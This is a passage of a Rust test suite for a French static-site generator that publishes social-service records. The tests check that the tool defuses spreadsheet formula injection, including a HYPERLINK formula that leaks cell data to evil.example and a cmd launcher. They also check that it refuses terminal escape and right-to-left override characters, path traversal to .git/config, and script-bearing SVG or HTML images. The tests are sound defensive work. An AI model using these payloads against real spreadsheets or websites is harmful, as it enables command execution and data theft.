    edit_hirson(p.path(), &[("{ nom: \"État – ACSé (politique de la ville)\"", "{ nom: \"=cmd|' /C calc'!A0\"")]);
    let out = p.path().join("out");
    ok(&build(p.path(), out.to_str().unwrap(), &[]));
    let fiches = std::fs::read_to_string(out.join("donnees/fiches.csv")).unwrap();
    let financements = std::fs::read_to_string(out.join("donnees/financements.csv")).unwrap();
    assert!(fiches.contains(r#";"'=HYPERLINK(""http://evil.example/?x=""&A1,""clic"")";"#), "{}", &fiches[..600]);
    assert!(financements.contains(";'=cmd|' /C calc'!A0;"), "{financements}");
    assert!(!fiches.contains(";=") && !financements.contains(";=") && !financements.contains(";\"="), "no cell starts a formula");
    // Numbers stay numbers.
    assert!(financements.contains(";87900;2015"), "{financements}");
    let json = std::fs::read_to_string(out.join("donnees/fiches.json")).unwrap();
    assert!(json.contains(r#""titre":"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"clic\")""#), "the JSON keeps the raw value");
}

#[test]
fn hidden_controls_in_a_value_are_refused_and_never_reach_the_terminal() {
    // A right-to-left override in a title, a terminal title sequence and a NUL in others.
    let p = sample_with("titre: ", "titre: \"Facture \\u202Egnp.exe\\u202C\"");
    edit_hirson(
        p.path(),
        &[
            ("structure: CCAS d'Hirson", "structure: \"CCAS\\e]0;pirate\\a d'Hirson\\e[8m\""),
            ("type_structure: ccas", "type_structure: \"cc\\e[2Jas\"\nmots_cles: [\"a\\0b\"]"),
        ],
    );
    let check = recueil().arg("--root").arg(p.path()).arg("check").output().unwrap();
    assert_eq!(check.status.code(), Some(1));
    let err = String::from_utf8_lossy(&check.stderr);
    assert!(!err.contains('\u{1b}') && !err.contains('\u{7}') && !err.contains('\u{202E}') && !err.contains('\0'), "{err:?}");
    assert!(
        err.contains("ateliers-insertion-hirson.md:2:8: erreur: « titre » contient un caractère invisible (U+202E, inversion du sens d'écriture), en 9e position"),
        "{err}"
    );
    assert!(err.contains("aide : retirez-le : titre: \"Facture gnp.exe\""), "{err}");
    assert!(err.contains("« structure » contient un caractère invisible (U+001B, échappement de terminal), en 5e position"), "{err}");
    assert!(err.contains("(U+0000, caractère nul)"), "{err}");
    // A value echoed in another message is shown with its controls visible, never obeyed.
    assert!(err.contains("« cc\\u{1B}[2Jas »"), "{err}");
    // A build refuses too: nothing of it reaches a page, a feed or a PDF.
    let out = p.path().join("out");
    let built = build(p.path(), out.to_str().unwrap(), &[]);
    failed(&built);
    assert!(!out.exists());
}

#[test]
fn only_real_image_files_inside_the_fiche_folder_are_published() {
    let p = sample_with("type_structure: ", "type_structure: ccas\nimage: { fichier: ../../.git/config, alt: Une photo }");
    let root = p.path();
    let folder = root.join("fiches/insertion");
    std::fs::create_dir_all(root.join(".git")).unwrap();
    std::fs::write(root.join(".git/config"), "[remote] url = secret").unwrap();
    std::fs::create_dir_all(folder.join("_brouillons")).unwrap();
    std::fs::write(folder.join("_brouillons/secret.md"), "brouillon").unwrap();
    std::fs::create_dir_all(folder.join(".cache")).unwrap();
    image::RgbImage::new(2, 2).save(folder.join(".cache/vraie.png")).unwrap();
    let svg = r#"<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>"#;
    std::fs::write(folder.join("dessin.svg"), svg).unwrap();
    std::fs::write(folder.join("deguise.png"), svg).unwrap();
    std::fs::write(folder.join("page.html"), "<script>alert(1)</script>").unwrap();
    image::RgbImage::new(800, 800).save(folder.join("vraie.png")).unwrap();
    let path = folder.join("ateliers-insertion-hirson.md");
    let mut text = std::fs::read_to_string(&path).unwrap();
    text = text.replacen(
        "\n## ",
        "\n![a](_brouillons/secret.md)\n\n![b](dessin.svg)\n\n![c](deguise.png)\n\n![d](.cache/vraie.png)\n\n![e](page.html)\n\n![Une vraie photo](vraie.png)\n\n## ",
        1,
    );
    std::fs::write(&path, text).unwrap();
    let check = recueil().arg("--root").arg(root).arg("check").output().unwrap();
    let err = String::from_utf8_lossy(&check.stderr);
    for (what, why) in [
        ("« ../../.git/config »", "est hors du dossier de la fiche"),
        ("« _brouillons/secret.md »", "passe par « _brouillons », un nom caché"),
        ("« dessin.svg »", "est un dessin SVG, qui peut contenir du code"),
        ("« deguise.png »", "porte l'extension .png mais son contenu n'est pas une image PNG"),
        ("« .cache/vraie.png »", "passe par « .cache », un nom caché"),
        ("« page.html »", "n'est pas une image que le site publie"),
    ] {
        assert!(err.lines().any(|l| l.contains(": erreur: image ") && l.contains(what) && l.contains(why)), "{what} {why}:\n{err}");
    }
    assert!(!err.contains("« vraie.png »"), "a real PNG beside the fiche is fine:\n{err}");
    assert_eq!(err.matches(": erreur: ").count(), 6, "{err}");
    failed(&build(root, root.join("out").to_str().unwrap(), &[]));
}

#[test]
fn an_empty_slug_a_year_zero_a_url_with_a_query_and_an_odd_language_are_refused() {
    let p = sample_with("thematiques: ", "thematiques: [Insertion, \"!!!\"]");
    edit_hirson(
        p.path(),
        &[
            (
                "publics:\n  - Bénéficiaires du RSA\n  - Bénéficiaires de l'AAH\n  - Demandeurs d'emploi\n  - Retraités\n",
                "publics: [\"…\", Familles]\n",
            ),
            ("date: 2015-09-15", "date: 0000-01-01"),
        ],
    );
    std::fs::write(p.path().join("recueil.yaml"), "titre: Recueil\nurl: https://exemple.fr/a?b=1&c=2\nlangue: français\n").unwrap();
    let check = recueil().arg("--root").arg(p.path()).arg("check").output().unwrap();
    assert_eq!(check.status.code(), Some(1));
    let err = String::from_utf8_lossy(&check.stderr);
    for expected in [
        "erreur: « !!! » dans « thematiques » n'a ni lettre ni chiffre",
        "erreur: « … » dans « publics » n'a ni lettre ni chiffre",
        "erreur: « date » : l'année 0 n'est pas plausible pour une fiche",
        "recueil.yaml:2:6: erreur: « url » : « https://exemple.fr/a?b=1&c=2 » contient « ? » ou « # »",
        "aide : gardez l'adresse sans ce qui suit : url: https://exemple.fr/a",
        "recueil.yaml:3:9: erreur: « langue » : « français » n'est pas un code de langue",
    ] {
        assert!(err.contains(expected), "{expected}\n{err}");
    }
}

/// Point 11 of #16 (Windows): a file of the output held open by another
/// program (a PDF reader opens without sharing deletion) stops the swap; the
/// build tries again, then names the file in French and keeps the output.
#[cfg(windows)]
#[test]
fn a_file_held_open_is_named_and_the_output_kept() {
    use std::os::windows::fs::OpenOptionsExt;
    let tmp = sample_project();
    let root = tmp.path();
    ok(&build(root, "output", &[]));
    let page = root.join("output/index.html");
    let before = std::fs::read(&page).unwrap();
    // FILE_SHARE_READ only, as a reader that keeps the file.
    let held = std::fs::OpenOptions::new().read(true).share_mode(0x1).open(root.join("output/donnees/fiches.csv")).unwrap();
    let err = failed(&build(root, "output", &[]));
    assert!(err.contains("output/donnees/fiches.csv est ouvert dans un autre programme"), "{err}");
    assert!(!err.contains("\\\\?\\"), "{err}");
    assert_eq!(std::fs::read(&page).unwrap(), before, "the output is kept");
    drop(held);
    ok(&build(root, "output", &[]));
}
